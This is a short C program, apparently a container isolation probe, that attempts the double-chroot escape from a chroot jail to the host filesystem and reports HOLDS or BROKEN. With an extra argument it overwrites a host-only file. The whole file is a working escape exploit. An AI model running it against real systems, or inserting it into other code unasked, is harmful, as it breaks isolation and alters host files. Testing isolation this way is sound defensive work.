/*
 * chroot FILE [WORD]: out of a chroot with a second one. chroot(2) moves where "/" points but not
 * where we are, so after it our directory is above the new root, and ".." leads on to the host's.
 * FILE exists on the host only. With WORD it is overwritten, which needs the host's root.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *file = argv[1];
    mkdir("/tmp/below", 0700);
    if (chroot("/tmp/below") < 0) return printf("HOLDS: chroot: %s\n", strerror(errno)), 1;
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0) break;
    if (chroot(".") < 0) return printf("HOLDS: chroot: %s\n", strerror(errno)), 1;
    if (access(file, F_OK) < 0) return printf("HOLDS: '..' ends at the container's own root\n"), 1;
    if (argc < 3) return printf("BROKEN: out on the host, where %s is\n", file), 0;
    int fd = open(file, O_WRONLY | O_TRUNC);
    if (fd < 0 || write(fd, argv[2], strlen(argv[2])) < 0)
        return printf("HOLDS: out on the host, but as nobody there: %s\n", strerror(errno)), 1;
    printf("BROKEN: wrote to %s, which only the host's root may\n", file);
    return 0;
}
